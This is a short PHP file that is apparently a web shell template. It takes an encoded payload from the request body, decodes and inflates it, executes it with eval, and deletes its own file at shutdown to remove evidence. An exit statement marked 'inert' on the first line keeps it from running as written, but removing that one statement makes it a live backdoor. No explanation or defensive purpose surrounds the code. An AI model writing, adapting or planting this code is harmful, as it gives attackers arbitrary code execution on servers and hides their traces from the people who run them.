<?php exit; /* inert */ 
register_shutdown_function(static function () { @unlink(__FILE__); });
$b = gzinflate(base64_decode(file_get_contents('php://input')));
$b && eval($b);
